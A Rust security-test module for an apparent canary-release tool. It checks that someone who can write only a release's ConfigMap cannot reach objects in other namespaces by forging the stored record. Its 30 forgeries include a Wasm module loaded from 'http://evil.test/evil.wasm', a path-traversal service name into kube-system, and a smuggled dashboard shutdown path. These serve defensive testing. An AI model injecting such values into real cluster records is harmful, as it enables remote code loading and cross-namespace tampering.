//! Who may write ConfigMaps beside a release, and nothing else, changes nothing that `canary-ctl` writes in another namespace, and prevents no
//! emergency.

mod accepted;
mod emergencies;
mod forged;
mod replayed;

use canary_operations::{
    Cluster, Error, LastAlerts, RollbackOptions, StoredRecord, UninstallOptions, WaitOptions, WeightRequest,
};
use canary_release::preflight::PreflightCheck;
use canary_release::spec::Release;
use fake_api_server::FakeApi;
use fake_api_server::fixture::{INGRESS, another, apply, release, set_weight, shop, weight};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::time::Duration;

/// The kinds of which an operation writes objects in other namespaces.
const KINDS: [&str; 5] = ["EnvoyFilter", "WasmPlugin", "DestinationRule", "VirtualService", "Secret"];

/// All objects outside the namespace of the release, without what each write changes.
fn elsewhere(api: &FakeApi) -> BTreeMap<String, Value> {
    let state = api.state();
    let objects = KINDS.iter().flat_map(|kind| state.store.of_kind(kind));
    let outside = objects.filter(|object| object["metadata"]["namespace"] != "shop");
    outside
        .map(|object| {
            let mut object = object.clone();
            let metadata = &object["metadata"];
            let name = format!("{} {}/{}", object["kind"], metadata["namespace"], metadata["name"]);
            object["metadata"] = Value::Null;
            (name, object)
        })
        .collect()
}

/// The shop at 10 %, and the release of another team behind the same gateway.
async fn deployed() -> (FakeApi, Cluster, Release) {
    let (api, release) = (shop(), release(&json!({"stickiness": "session"})));
    let cluster = api.cluster().await;
    let blog = another(&api, "blog");
    apply(&cluster, &blog).await.unwrap();
    apply(&cluster, &release).await.unwrap();
    set_weight(&cluster, &release, "10").await.unwrap();
    (api, cluster, release)
}

fn evil_code() -> Value {
    let field = "/spec/configPatches/0/patch/value/typed_config/config/vm_config/code";
    json!({field: {"remote": {"http_uri": {"uri": "http://evil.test/evil.wasm"}}}})
}

fn reference(kind: &str, namespace: &str, name: &str) -> Value {
    json!({"apiVersion": "networking.istio.io/v1", "kind": kind, "namespace": namespace, "name": name})
}

/// A change that a user who can write the ConfigMap makes in the record.
type Forgery = (&'static str, fn(&mut Value));

/// For each field of the record a hostile value of its kind.
const FORGERIES: [Forgery; 30] = [
    ("format", |record| record["format"] = json!(2)),
    ("state.uid", |record| record["state"]["uid"] = json!("evilevilevil")),
    ("state.generation", |record| record["state"]["generation"] = json!(u64::MAX)),
    ("state.weight", |record| record["state"]["weight"] = json!(10_000)),
    ("state.until", |record| record["state"]["until"] = json!({"atSeconds": 1, "action": "rollback"})),
    ("state.versions", |record| record["state"]["versions"][1]["name"] = json!("evil")),
    ("state.versions.epoch", |record| record["state"]["versions"][1]["epoch"] = json!(77)),
    ("state.gone", |record| record["state"]["gone"] = json!([{"name": "v2", "epoch": 9}])),
    ("state.adopt", |record| record["state"]["adopt"] = json!("evil")),
    ("state.installedAtSeconds", |record| record["state"]["installedAtSeconds"] = json!(1)),
    ("state.rolloutSinceSeconds", |record| record["state"]["rolloutSinceSeconds"] = json!(1)),
    ("initialWeight", |record| record["initialWeight"] = json!(10_000)),
    ("leaving", |record| record["leaving"] = json!(["v2"])),
    ("draining", |record| record["draining"] = json!({"v2": "2020-01-01T00:00:00Z"})),
    ("roleChange", |record| {
        record["roleChange"] =
            json!({"kind": "promoted", "from": "v2", "to": "v1", "by": "ada", "at": "2026-01-01T00:00:00Z"});
    }),
    ("moduleRollout", |record| {
        let object = json!({"apiVersion": "networking.istio.io/v1alpha3", "kind": "EnvoyFilter", "namespace": INGRESS,
            "name": "canary-gateway-config"});
        let field = "/spec/configPatches/0/patch/value/typed_config/config/vm_config/code";
        let to = json!({field: {"remote": {"http_uri": {"uri": "oci://registry.test/filter:1"}}}});
        record["moduleRollout"] = json!([{"object": object, "from": evil_code(), "to": to}]);
    }),
    ("stablePods", |record| record["stablePods"] = json!(9)),
    ("paused", |record| record["paused"] = json!({"by": "evil", "at": "2026-01-01T00:00:00Z"})),
    ("maxStep", |record| record["maxStep"] = json!(10_000)),
    ("onExpiry", |record| record["onExpiry"] = json!("rollback")),
    ("service", |record| record["service"]["name"] = json!("blog")),
    ("service.path", |record| {
        record["service"]["name"] = json!("../../../kube-system/services/dashboard:80/proxy");
    }),
    ("proxies", |record| record["proxies"] = json!([{"namespace": "kube-system", "labels": {}}])),
    ("no proxies", |record| record["proxies"] = json!([])),
    ("train", |record| record["train"] = json!({"name": "autumn", "isInner": true, "namespaces": ["blog"]})),
    ("routes", |record| record["routes"] = json!("inject")),
    ("metadata", |record| record["metadata"] = json!({"labels": {"team": "evil"}})),
    ("objects of others", |record| {
        let objects = record["objects"].as_array_mut().unwrap();
        objects.push(json!(["filter", reference("EnvoyFilter", INGRESS, "canary-gateway-filter")]));
        objects.push(json!(["subsets", reference("DestinationRule", "blog", "web-canary")]));
    }),
    ("no configuration", |record| {
        record["objects"].as_array_mut().unwrap().retain(|object| object[0] != "configuration");
    }),
    ("paths as objects", |record| {
        let objects = record["objects"].as_array_mut().unwrap();
        objects.push(json!(["edits", {"apiVersion": "v1", "kind": "Service", "namespace": "kube-system",
            "name": "dashboard:80/proxy/admin/shutdown?now=1"}]));
    }),
];

async fn set(
    cluster: &Cluster,
    release: &Release,
    stored: StoredRecord,
    percent: &str,
) -> Result<StoredRecord, Error> {
    let request =
        WeightRequest { weight: weight(percent), expires_in: None, expected_generation: None, skipped: &[] };
    let checked = cluster.check_weight(&release.name, stored, request).await?;
    Ok(cluster.set_weight(checked).await?.stored)
}

async fn roll_back(
    cluster: &Cluster,
    release: &Release,
    stored: StoredRecord,
) -> Result<StoredRecord, Error> {
    let checked = cluster.check_rollback(&release.name, stored, RollbackOptions::default()).await?;
    let mut waiting = WaitOptions { timeout: Duration::from_secs(3), progress: &mut |_, _| {} };
    Ok(Box::pin(cluster.roll_back(checked, &mut waiting)).await?.stored)
}

async fn uninstall(cluster: &Cluster, release: &Release, stored: StoredRecord) -> Result<(), Error> {
    let waiting = WaitOptions { timeout: Duration::from_secs(3), progress: &mut |_, _| {} };
    let skipped = &[PreflightCheck::MovesUsers];
    let options = UninstallOptions { skipped, waiting, alerts: LastAlerts::default() };
    Box::pin(cluster.uninstall(&release.name, stored, options)).await.map(drop)
}

/// Keys are drawn, times and resource names are of now.
fn comparable(objects: &BTreeMap<String, Value>) -> BTreeMap<String, String> {
    let text = |object: &Value| {
        let text = object.to_string();
        ["weight", "evil", "uri", "kube-system"].map(|word| text.matches(word).count().to_string()).join(" ")
            + &text.len().to_string()
    };
    objects.iter().map(|(name, object)| (name.clone(), text(object))).collect()
}

fn put_back(api: &FakeApi, config_map: &Value) {
    let data = config_map["data"].clone();
    api.state().store.edit("ConfigMap", "shop-canary", |object| object["data"] = data);
}
